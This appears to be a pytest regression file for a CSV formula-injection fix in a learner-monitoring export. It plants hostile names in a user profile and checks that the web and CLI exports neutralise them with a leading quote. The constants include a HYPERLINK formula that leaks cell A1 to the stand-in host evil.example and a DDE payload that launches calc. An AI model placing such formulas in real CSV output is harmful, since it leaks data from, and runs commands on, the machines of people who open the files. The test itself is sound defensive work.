"""Finding: CSV formula injection in the plain /monitor/sleepers.csv.

Learners choose their own names. A last name ``=HYPERLINK(...)`` was written raw into the plain CSV
(only ``?excel=1`` neutralised it) and ran as a formula when the file was opened in a spreadsheet.
Now every CSV the project emits goes through one writer (:mod:`sidecar.csvsafe`) that prefixes text
starting a formula with a single quote, while the numbers we write ourselves stay numbers.
"""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from sidecar.bootstrap import build_runtime, store_url
from sidecar.cli import cli
from sidecar.clock import FixedClock
from sidecar.csvsafe import SafeCsvWriter, defuse, defuse_text
from sidecar.monitor.csv_export import CSV_COLUMNS
from tests.monitor.support import START, Monitor
from tests.stores import migrate_store

PACKAGE = Path(__file__).resolve().parents[2] / "sidecar"
LAST_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FIRST_NAME = "+cmd|' /C calc'!A0"
FULL_WIDTH = "\uff1dSUM(1,2)"


def plant_names(site_url: str, user_id: int) -> None:
    """Give a learner hostile names, as they could in their own profile."""
    engine = sa.create_engine(site_url)
    try:
        meta = sa.Table("wp_usermeta", sa.MetaData(), autoload_with=engine)
        with engine.begin() as conn:
            for key, value in (("last_name", LAST_NAME), ("first_name", FIRST_NAME)):
                conn.execute(meta.delete().where(meta.c.user_id == user_id, meta.c.meta_key == key))
                conn.execute(meta.insert().values(user_id=user_id, meta_key=key, meta_value=value))
    finally:
        engine.dispose()


@pytest.fixture
def planted(small_site, settings_for):
    """Settings on a site where one sleeper has formula names; the monitor refreshed after the change."""
    settings = settings_for(small_site)
    migrate_store(store_url(settings))
    runtime = build_runtime(settings, clock=FixedClock(START))
    monitor = Monitor(runtime)
    monitor.refresher.refresh_all()
    user_id = monitor.all_rows()[0].user_id
    plant_names(small_site, user_id)
    monitor.refresher.refresh_all()
    yield monitor, settings, user_id
    runtime.close()


def hostile_rows(text: str, user_id: int, delimiter: str = ",") -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert rows[0] == list(CSV_COLUMNS)
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[0] == str(user_id)]


def assert_neutralised(records: list[dict[str, str]]) -> None:
    assert records
    for record in records:
        assert record["last_name"] == "'" + LAST_NAME
        assert record["first_name"] == "'" + FIRST_NAME
        # Our own numbers stay numbers: no quote in front of ids, counts and flags.
        for column in ("user_id", "level_id", "days_since", "blocked", "reminders_sent"):
            assert record[column].lstrip("-").isdigit(), (column, record[column])


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_csv_formula_injection_sleepers_csv_download(planted, excel):
    monitor, _settings, user_id = planted
    monitor.login()
    response = monitor.client.get("/monitor/sleepers.csv" + ("?excel=1" if excel else ""))
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    if excel:
        text = text.removeprefix("\ufeff")
    assert_neutralised(hostile_rows(text, user_id, ";" if excel else ","))
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_csv_formula_injection_sleepers_list_command(planted):
    _monitor, settings, user_id = planted
    result = CliRunner().invoke(cli, ["sleepers", "list", "--format", "csv"], obj={"settings": settings},
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert_neutralised(hostile_rows(result.stdout, user_id))


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), (FULL_WIDTH, "'" + FULL_WIDTH), ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"),
    ("\uff20x", "'\uff20x"),
    ("Smith", "Smith"), ("a=b", "a=b"), ("", ""), ("2026-11-24", "2026-11-24"), ("'=1", "'=1"),
    (None, ""), (42, 42), (-3, -3), (0, 0), (1.5, 1.5), (-2.5, -2.5), (Decimal("-7"), Decimal("-7")),
    (True, 1), (False, 0),
])
def test_csv_formula_injection_cell_rule(value, written):
    """Text starting a formula gets a quote; numbers of a numeric type (ours) stay numbers."""
    assert defuse(value) == written
    if value is None or isinstance(value, str):   # the bulk exports' guard of a text column agrees
        assert defuse_text(value) == written


def test_csv_formula_injection_numbers_stay_numbers_in_the_file():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([7, -3, 2.5, "-3", "=A1"])
    assert buffer.getvalue() == "7,-3,2.5,'-3,'=A1\r\n"


def test_csv_formula_injection_every_csv_goes_through_the_safe_writer():
    """No module but sidecar/csvsafe.py builds a csv writer, so a new export cannot skip the rule."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "csvsafe.py" and path.parent == PACKAGE:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
    assert offenders == []
